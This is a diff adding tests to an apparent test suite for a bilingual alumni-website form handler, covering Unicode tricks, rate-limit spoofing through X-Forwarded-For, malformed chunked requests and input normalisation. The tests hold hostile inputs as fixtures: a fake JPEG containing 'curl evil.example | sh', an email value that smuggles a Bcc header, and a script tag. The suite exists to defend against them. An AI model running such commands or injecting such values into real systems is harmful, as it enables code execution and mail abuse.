@@ -127,6 +127,25 @@ CASES = {
     "emoji with joiners are kept": Case(
         form(message="全家福 👨‍👩‍👧‍👦 🇨🇳 👍🏽"), 201, stored={"message": "全家福 👨‍👩‍👧‍👦 🇨🇳 👍🏽"}
     ),
+    "tag characters hiding ASCII are dropped": Case(
+        form(subject="hi\U000e0041\U000e0042"), 201, stored={"subject": "hi"}
+    ),
+    "a name of Hangul fillers is no name": Case(form(name="\u3164\u115f"), 422),
+    "word joiners do not make a note long enough": Case(
+        urlencode(
+            {
+                "class_year": "1992",
+                "college": "化学学院",
+                "author": "九二级",
+                "title": "再聚",
+                "body": "a" + "\u2060" * 30,
+                "email": "n@example.com",
+                "consent": "yes",
+            }
+        ).encode(),
+        422,
+        path="/api/forms/class-note",
+    ),
     "rare CJK characters are kept": Case(form(name="𠮷𪚥䶮"), 201, stored={"name": "𠮷𪚥䶮"}),
     "decomposed accents become composed": Case(form(name="Rene\u0301"), 201, stored={"name": "René"}),
     "a repeated field keeps the first": Case(
@@ -252,6 +271,20 @@ def test_a_client_sending_too_fast_is_told_to_wait(start_handler):
     assert int(answers[3][1]["Retry-After"]) >= 1
 
 
+def test_a_client_writing_its_own_forwarded_for_is_still_told_to_wait(start_handler):
+    """Behind a proxy, the address it adds (the right-most) counts, not what the client wrote before it."""
+    limited = start_handler(
+        workers=1, FORMS_RATE_PER_MINUTE="60", FORMS_RATE_BURST="3", FORMS_TRUST_FORWARDED_FOR="1"
+    )
+    answers = [
+        request(limited.url, Case(form(), 201, headers={"X-Forwarded-For": f"10.9.{n}.1, 203.0.113.7"}))[0]
+        for n in range(5)
+    ]
+    assert answers == [201, 201, 201, 429, 429]
+    # Another visitor behind the same proxy has a bucket of its own.
+    assert request(limited.url, Case(form(), 201, headers={"X-Forwarded-For": "203.0.113.8"}))[0] == 201
+
+
 def test_a_form_sent_from_the_english_edition_is_answered_in_english(handler):
     english = {"Accept": "text/html"}
     status, headers, body = request(
@@ -372,7 +405,7 @@ PHOTO_CASES = {
     "a script disguised as a JPEG": ([("IMG_2031.jpg", b"#!/bin/sh\ncurl evil.example | sh\n\xff\xd8\xff\xe0")], 422, "cannot be opened as a photo"),
     "an SVG with a script": ([("logo.svg", SVG)], 422, "“logo.svg” is not a photo"),
     "an SVG with a script named as a JPEG": ([("logo.jpg", SVG)], 422, "“logo.jpg” cannot be opened as a photo"),
-    "a 100-megapixel PNG": ([("panorama.png", hundred_megapixels())], 422, "has too many pixels (100 megapixels, at most 50 million)"),
+    "a 100-megapixel PNG": ([("panorama.png", hundred_megapixels())], 422, "has too many pixels (100 megapixels, at most 16 million)"),
     "a zip bomb named as a PNG": ([("photos.png", zip_bomb())], 422, "“photos.png” cannot be opened as a photo"),
     "a real photo with a wrong extension": ([("photo.php", jpeg())], 422, "“photo.php” is not a photo"),
     "four photos where three are taken": ([(f"{n}.jpg", jpeg()) for n in range(4)], 422, "At most 3 photos can be sent; you chose 4"),
@@ -432,3 +465,94 @@ def test_a_bot_sending_photos_is_answered_alike_and_none_of_them_is_kept(handler
     assert status == 201 and json.loads(text)["id"] == "0"
     [row] = [r for r in read_records(handler.inbox / "spam" / "class-note-v2.csv") if r["title"] == "推广"]
     assert row["photos"] == "" and not (handler.inbox / "photos" / row["id"]).exists()
+
+
+def raw(url: str, head: bytes, body: bytes) -> str:
+    """Send bytes as they are, then close our side, and read the whole answer."""
+    parts = urlsplit(url)
+    with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
+        sock.sendall(head + body)
+        sock.shutdown(socket.SHUT_WR)
+        answer = b""
+        while chunk := sock.recv(65536):
+            answer += chunk
+    return answer.decode("utf-8", "replace")
+
+
+CHUNKED = (b"POST /api/forms/contact HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAccept: application/json\r\n"
+           b"Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n")  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "body", [b"zz\r\nabc\r\n0\r\n\r\n", b"ff\r\nname=abc"], ids=["bad size", "cut short"]
+)
+def test_a_malformed_chunked_body_is_a_400_with_a_sentence(handler, body):
+    answer = raw(handler.url, CHUNKED, body)
+    assert answer.startswith("HTTP/1.1 400"), answer
+    assert '"en": "The request could not be read"' in answer
+
+
+def test_a_thousand_fields_are_too_many_fields_not_bad_utf8(handler):
+    status, _, body = request(handler.url, Case(form() + b"&x=" * 1000, 413))
+    assert status == 413
+    assert json.loads(body)["error"] == {"zh": "表单的项太多（最多 1000 项）", "en": "The form has too many fields (at most 1000)"}  # fmt: skip
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
+def test_json_in_another_encoding_than_utf8_is_refused(handler, encoding):
+    body = json.dumps({**GOOD, "subject": "UTF-16 来信"}, ensure_ascii=False).encode(encoding)
+    assert request(handler.url, Case(body, 400, JSON))[0] == 400
+    assert "UTF-16 来信" not in (handler.inbox / "contact-v1.csv").read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    "path", ["/contact", "//api/forms/contact", "/api/forms//contact", "/x/api/forms/contact"]
+)
+def test_forms_answer_only_under_their_prefix(handler, path):
+    status, _, _ = request(handler.url, Case(form(subject=f"旁门{path}"), 404, path=path))
+    assert status == 404
+    assert "旁门" not in (handler.inbox / "contact-v1.csv").read_text(encoding="utf-8")
+
+
+UPDATE = {"name": "周晓梅", "gender": "female", "relation": "staff", "staff_years": "1990-2015", "staff_unit": "图书馆",
+          "birth_date": "1968-05-04", "mobile": "13911112222", "email": "zhou.xm@example.com", "consent": "yes"}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "changes, stored",
+    [
+        (
+            {"email": "ｚｈｏｕ@ＥＸＡＭＰＬＥ.ｃｏｍ"},
+            {"email": "zhou@example.com"},
+        ),  # full width, as typed in Chinese
+        ({"birth_date": "１９６８-０５-０４"}, {"birth_date": "1968-05-04"}),
+    ],
+)
+def test_values_are_stored_in_one_way(handler, changes, stored):
+    status, _, body = request(handler.url, Case(form(**{**UPDATE, **changes}), 201, path="/api/forms/update"))
+    assert status == 201, body
+    row = read_records(handler.inbox / "update-v1.csv")[-1]
+    assert {key: row[key] for key in stored} == stored
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"birth_date": "1990-W10-1"},  # an ISO week date, which Python reads as a day
+        {"birth_date": "1990-071"},  # an ordinal date
+        {"birth_date": "2099-01-01"},  # not born yet
+        {"email": "mailto:zhou@example.com"},
+        {"email": "<script>@example.com"},
+        {"email": "zhou@example.com\nBcc: x@example.com"},
+        {"email": "zhou@exa mple.com"},
+    ],
+)
+def test_values_no_one_could_mean_are_refused(handler, changes):
+    status, _, body = request(handler.url, Case(form(**{**UPDATE, **changes}), 422, path="/api/forms/update"))
+    assert status == 422 and list(json.loads(body)["errors"]) == list(changes)
+
+
+def test_a_number_is_stored_as_a_number(handler):
+    body = urlencode({"event": "homecoming-2027", "name": "李华", "mobile": "13900001111", "guests": "0005", "consent": "yes"})  # fmt: skip
+    assert request(handler.url, Case(body.encode(), 201, path="/api/forms/event-registration"))[0] == 201
+    assert read_records(handler.inbox / "event-registration-v1.csv")[-1]["guests"] == "5"
